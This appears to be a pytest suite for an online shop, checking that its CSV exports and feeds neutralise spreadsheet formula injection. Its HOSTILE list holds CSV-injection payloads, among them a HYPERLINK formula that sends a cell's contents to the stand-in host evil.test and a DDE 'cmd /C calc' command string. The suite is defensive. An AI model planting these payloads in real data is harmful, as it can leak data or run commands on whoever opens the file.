"""Every CSV the shop produces, filled with text that spreadsheets would run as a
formula: no cell may start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return unless it is neutralised (an apostrophe first) or is a number we wrote.

The CSV files, each built here with hostile text in every free-text field that
reaches it:

* ``facebook.csv`` (Facebook / Instagram catalogue feed) and ``tiktok.csv`` (TikTok
  Shop feed), by the seller's download ``/seller/<id>/feeds/<channel>`` and the
  secret public URL ``/feeds/<slug>/<secret>/<channel>``: enterprise name (brand),
  product name and description (title, description), option name (title), SKU,
  category name (product type);
* the seller's listings export ``/seller/<id>/listings/export.csv``: product names,
  summaries, descriptions, option names, SKU, tags;
* the seller's orders export ``/seller/<id>/orders.csv``: recipient's name, shipping
  option, SKU, product and option names as bought, carrier name, tracking number;
* the staff ledger ``/admin/ledger/entries.csv``: enterprise name, entry key, memo;
* the staff payouts ``/admin/ledger/payouts.csv``: enterprise name, idempotency key,
  transfer id, reference, failure reason;
* the staff receivables ``/admin/receivables.csv``: the buyer's company name;
* the staff programme report ``/admin/reports/<table>.csv``: enterprise, village and
  programme names;
* the public impact figures ``/impact.csv``: no free text reaches it (province names
  are reference data), checked all the same.

They are all the functions in ``shop.spreadsheets.PRODUCERS``; the tests below fail
when a producer, or a ``.csv`` URL, is added without being covered here, when a
module writes CSV without ``shop.spreadsheets``, or when a ``text/csv`` answer did not
come from ``csv_response``.
"""

from __future__ import annotations

import ast
import csv
import importlib
import io
import pkgutil
import re
import secrets
from pathlib import Path

import pytest
from flask import Response
from sqlalchemy import select

import shop
from shop.accounts.models import RetailBuyer
from shop.catalog.models import ProductPhoto, Variant
from shop.extensions import db
from shop.invoicing import services as invoicing
from shop.ledger.models import PAYOUT_BANK_TRANSFER, PAYOUT_FAILED, LedgerEntry, Payout
from shop.orders import status as st
from shop.sellers import feeds
from shop.spreadsheets import FORMULA_START, PRODUCERS, CsvText, csv_response, write_csv
from tests.factories import (
    CategoryFactory,
    EnterpriseFactory,
    MemberFactory,
    ProductFactory,
    RetailBuyerFactory,
    TagFactory,
    UserFactory,
    VariantFactory,
)
from tests.order_helpers import make_order

HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    '+cmd|" /C calc"!A0',
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=2+2",
]
HONEST = "น้ำพริกเผาแม่ศรี สูตรดั้งเดิม"
# Cells we write as numbers: a leading "-" is a sign there.
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

#: ``PRODUCERS`` key -> the test below that builds that CSV.
COVERED_PRODUCERS = {
    "shop.sellers.feeds:facebook_csv": "test_feeds_are_guarded",
    "shop.sellers.feeds:tiktok_csv": "test_feeds_are_guarded",
    "shop.sellers.csv_io:export_csv": "test_listings_export_is_guarded",
    "shop.sellers.order_services:export_csv": "test_orders_export_is_guarded",
    "shop.ledger.services:entries_csv": "test_ledger_exports_are_guarded",
    "shop.ledger.services:payouts_csv": "test_ledger_exports_are_guarded",
    "shop.invoicing.services:receivables_csv": "test_receivables_export_is_guarded",
    "shop.reports.exports:report_csv": "test_programme_report_exports_are_guarded",
    "shop.reports.exports:impact_csv": "test_impact_csv_is_guarded",
    "shop.experiences.services:guest_list_csv": "test_guest_list_is_guarded",
}
#: Endpoints that answer CSV, and the test that fetches each.
COVERED_ENDPOINTS = {
    "sellers.feed_download": "test_feeds_are_guarded",
    "channel_feed": "test_feeds_are_guarded",
    "sellers.listings_export": "test_listings_export_is_guarded",
    "sellers.orders_csv": "test_orders_export_is_guarded",
    "ledger.entries_csv": "test_ledger_exports_are_guarded",
    "ledger.payouts_csv": "test_ledger_exports_are_guarded",
    "admin.receivables_csv": "test_receivables_export_is_guarded",
    "admin.reports_csv": "test_programme_report_exports_are_guarded",
    "reports.impact_csv": "test_impact_csv_is_guarded",
    "experiences.seller_guests_csv": "test_guest_list_is_guarded",
}



def cells_of(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_guarded(cells: list[str], hostile=HOSTILE, *, collapsed: bool = False) -> None:
    """No cell runs as a formula; every hostile value reached the file neutralised;
    the honest Thai text is there unchanged. ``collapsed``: the feeds fold runs of
    whitespace (a leading tab or return is gone before the guard sees the cell)."""
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert NUMBER.match(cell), f"cell would run as a formula: {cell!r}"
    for value in hostile:
        shown = " ".join(value.split()) if collapsed else value
        assert any(cell in ("'" + shown, "'" + value) or cell.startswith("'" + shown) for cell in cells), (
            f"{value!r} did not reach the file guarded")
    assert HONEST in cells


# ---------------------------------------------------------------- the producers


def with_photo(product):
    db.session.add(ProductPhoto(product_id=product.id, image_key=secrets.token_hex(16), width=1200, height=900,
                                position=0))
    db.session.commit()


@pytest.fixture
def hostile_shop(app):
    """An enterprise whose name, products, options, SKUs and category are hostile,
    with one honest Thai product."""
    owner = MemberFactory(enterprise__name_th=HOSTILE[0], enterprise__name_en=HOSTILE[0],
                          enterprise__slug="hostile-shop")
    enterprise = owner.enterprise
    category = CategoryFactory(name_th=HOSTILE[3], name_en=HOSTILE[3])
    for index, value in enumerate(HOSTILE):
        product = ProductFactory(enterprise=enterprise, category=category, slug=f"hostile-{index}",
                                 name_th=value, name_en=value, summary_th=value, summary_en=value,
                                 description_th=value, description_en=value)
        with_photo(product)
        TagFactory(product=product, tag=value)
        VariantFactory(product=product, sku=value, name_th=value, name_en=value, price_satang=12000)
        VariantFactory(product=product, sku=f"OK-{index}", name_th=value, name_en=value, price_satang=9000)
    honest = ProductFactory(enterprise=enterprise, category=category, slug="nam-prik", name_th=HONEST,
                            name_en=HONEST, description_th=HONEST)
    with_photo(honest)
    VariantFactory(product=honest, sku="NP-1", name_th=HONEST, price_satang=8000)
    return owner


def test_feeds_are_guarded(app, client, hostile_shop, sign_in):
    sign_in(hostile_shop.user, client=client)
    enterprise = hostile_shop.enterprise
    secret = feeds.rotate_feed_key(enterprise, hostile_shop.user)
    anonymous = app.test_client()
    for channel in ("facebook.csv", "tiktok.csv"):
        for lang in ("th", "en"):
            download = client.get(f"/seller/{enterprise.id}/feeds/{channel}?lang={lang}")
            assert_guarded(cells_of(download), collapsed=True)
        public = anonymous.get(f"/feeds/{enterprise.slug}/{secret}/{channel}")
        assert_guarded(cells_of(public), collapsed=True)


def test_feed_files_before_the_fix_would_have_run_formulas(app, hostile_shop):
    # The raw text does reach the feed: without the guard the title cell would be
    # the formula itself.
    with app.test_request_context():
        body = feeds.facebook_csv(hostile_shop.enterprise)
    assert isinstance(body, CsvText)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {row["brand"] for row in rows} == {"'" + HOSTILE[0]}
    assert any(row["title"].startswith("'" + HOSTILE[0]) for row in rows)
    assert not any(row["title"].startswith(FORMULA_START) for row in rows)


def test_listings_export_is_guarded(app, client, hostile_shop, sign_in):
    sign_in(hostile_shop.user, client=client)
    cells = cells_of(client.get(f"/seller/{hostile_shop.enterprise_id}/listings/export.csv"))
    assert_guarded(cells)


def test_orders_export_is_guarded(app, client, hostile_shop, sign_in):
    sign_in(hostile_shop.user, client=client)
    variants = list(db.session.scalars(select(Variant).where(Variant.enterprise_id == hostile_shop.enterprise_id)
                                       .order_by(Variant.id)))
    for value in HOSTILE:
        order = make_order([(variants[0], 1)], paid=True, fulfilment_status=st.FULFILMENT_SHIPPED)
        # Hostile text in every column, also where today's forms refuse it (a tracking
        # number is letters and digits): the guard must not lean on validation.
        order.recipient_name = value
        order.fulfilments[0].shipping_name = value
        order.fulfilments[0].carrier = value[:40]  # carrier: 40 characters
        order.fulfilments[0].tracking_number = value
        for line in order.fulfilments[0].lines:
            line.sku = line.product_name_th = line.variant_name_th = value
    honest = make_order([(variants[1], 1)], paid=True)
    honest.recipient_name = HONEST
    db.session.commit()
    for lang in ("th", "en"):
        assert_guarded(cells_of(client.get(f"/seller/{hostile_shop.enterprise_id}/orders.csv?lang={lang}")))


def test_ledger_exports_are_guarded(app, client, sign_in):
    enterprise = EnterpriseFactory(name_th=HOSTILE[1])
    honest = EnterpriseFactory(name_th=HONEST)
    make_order([(VariantFactory(product__enterprise=enterprise), 2)], paid=True)
    # Rows no use case writes (hostile keys, references and failure reasons): the
    # guard must hold whatever is in the table.
    for index, value in enumerate(HOSTILE):
        db.session.add(LedgerEntry(enterprise_id=honest.id, kind="fee", amount_satang=-150 - index,
                                   entry_key=f"{value}-{index}", memo=value))
        db.session.add(Payout(enterprise_id=enterprise.id, method=PAYOUT_BANK_TRANSFER, status=PAYOUT_FAILED,
                              amount_satang=1000 + index, idempotency_key=f"{value}-{index}", provider_ref=value,
                              reference=value, failure_reason=value))
    db.session.add(Payout(enterprise_id=honest.id, method=PAYOUT_BANK_TRANSFER, amount_satang=500,
                          idempotency_key="honest-1", reference=HONEST))
    db.session.commit()
    sign_in(UserFactory(is_staff=True), client=client)
    entries = cells_of(client.get("/admin/ledger/entries.csv"))
    assert_guarded(entries)
    assert "-1.50" in entries and "-150" in entries  # our signed amounts stay numbers
    assert_guarded(cells_of(client.get("/admin/ledger/payouts.csv")))


def test_receivables_export_is_guarded(app, client, sign_in):
    staff = UserFactory(is_staff=True)
    variant = VariantFactory(price_satang=100_000, stock=500)
    for company in [*HOSTILE, HONEST]:
        business = RetailBuyerFactory(status=RetailBuyer.VERIFIED, company_name=company)
        invoicing.set_terms(staff, business.id, net_days=30, credit_limit="50000")
        order = make_order([(variant, 1)], user=business.user, payment_method=st.PAYMENT_INVOICE)
        order.buyer_company = company
    db.session.commit()
    sign_in(staff, client=client)
    for lang in ("th", "en"):
        cells = cells_of(client.get(f"/admin/receivables.csv?lang={lang}"))
        assert_guarded(cells)
        assert any(re.fullmatch(r"1\d{3}\.\d{2}", cell) for cell in cells)  # amounts stay numbers


def test_programme_report_exports_are_guarded(app, client, sign_in):
    from shop.catalog.models import EnterpriseProgramme, Programme
    from shop.reports.exports import TABLES

    for index, name in enumerate([*HOSTILE, HONEST]):
        enterprise = EnterpriseFactory(name_th=name, village=name)
        programme = Programme(slug=f"programme-{index}", name_th=name)
        db.session.add(programme)
        db.session.flush()
        db.session.add(EnterpriseProgramme(enterprise_id=enterprise.id, programme_id=programme.id))
        make_order([(VariantFactory(product__enterprise=enterprise, price_satang=10_000), 1)], paid=True)
    db.session.commit()
    sign_in(UserFactory(is_staff=True), client=client)
    for lang in ("th", "en"):
        assert_guarded(cells_of(client.get(f"/admin/reports/enterprises.csv?lang={lang}")))
        assert_guarded(cells_of(client.get(f"/admin/reports/programmes.csv?lang={lang}")))
        for table in TABLES:
            for cell in cells_of(client.get(f"/admin/reports/{table}.csv?lang={lang}")):
                assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), (table, cell)
    cells = cells_of(client.get("/admin/reports/enterprises.csv"))
    assert "142.50" in cells  # ฿100 + ฿50 shipping less the 5 % fee, a number


def test_impact_csv_is_guarded(app, client):
    enterprise = EnterpriseFactory(name_th=HOSTILE[0], village=HOSTILE[1], province_code="52")
    make_order([(VariantFactory(product__enterprise=enterprise, price_satang=10_000), 1)], paid=True)
    for lang in ("th", "en"):
        cells = cells_of(client.get(f"/impact.csv?lang={lang}"))
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or NUMBER.match(cell), cell
        assert "ลำปาง" in cells and "142.50" in cells


# ---------------------------------------------------------------- nothing bypasses the guard


def test_guest_list_is_guarded(app, client, sign_in):
    from shop.experiences import services as experiences
    from tests.experience_helpers import make_host
    from tests.order_helpers import pay_by_slip

    host = make_host(seats=len(HOSTILE) + 1)
    for index, name in enumerate([*HOSTILE, HONEST]):
        order = experiences.book(host.session.id, adults="1", buyer=None, email=f"g{index}@example.test",
                                 guest_name=name, phone="081-234-5678")
        pay_by_slip(order)
    sign_in(host.owner)
    response = client.get(f"/seller/{host.enterprise.id}/experiences/sessions/{host.session.id}/guests.csv")
    assert_guarded(cells_of(response), collapsed=True)


def _import_every_module() -> None:
    for module in pkgutil.walk_packages(shop.__path__, "shop."):
        importlib.import_module(module.name)


def test_every_csv_producer_is_covered_here(app):
    _import_every_module()
    assert set(PRODUCERS) == set(COVERED_PRODUCERS), (
        "A CSV producer was added or removed: build it in this module with hostile text.")


def test_every_csv_url_is_covered_here(app):
    csv_endpoints = {rule.endpoint for rule in app.url_map.iter_rules()
                     if rule.rule.endswith(".csv") or "<channel>" in rule.rule}
    assert csv_endpoints == set(COVERED_ENDPOINTS)


def test_no_module_writes_csv_without_the_guard():
    """Only ``shop/spreadsheets.py`` may call ``csv.writer`` / ``csv.DictWriter`` or
    name the ``text/csv`` type of an answer."""
    root = Path(shop.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent == root:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(root)}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and \
                    any(alias.name in ("writer", "DictWriter") for alias in node.names):
                offenders.append(f"{path.relative_to(root)}:{node.lineno} from csv import")
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and \
                    node.value.strip().lower().startswith("text/csv"):
                offenders.append(f"{path.relative_to(root)}:{node.lineno} {node.value!r}")
    assert offenders == []


@pytest.mark.fresh_app
def test_a_csv_answer_made_another_way_is_refused(app, client):
    @app.get("/test-raw.csv")
    def raw_csv():
        return Response('=HYPERLINK("http://evil.test")\r\n', mimetype="text/csv")

    @app.get("/test-safe.csv")
    def safe_csv():
        return csv_response(write_csv(["name"], [['=HYPERLINK("http://evil.test")']]))

    with pytest.raises(RuntimeError, match="csv_response"):
        client.get("/test-raw.csv")
    assert cells_of(client.get("/test-safe.csv")) == ["name", "'=HYPERLINK(\"http://evil.test\")"]


def test_csv_response_takes_only_what_write_csv_made(app):
    with pytest.raises(TypeError):
        csv_response("=1+1\r\n")  # type: ignore[arg-type]
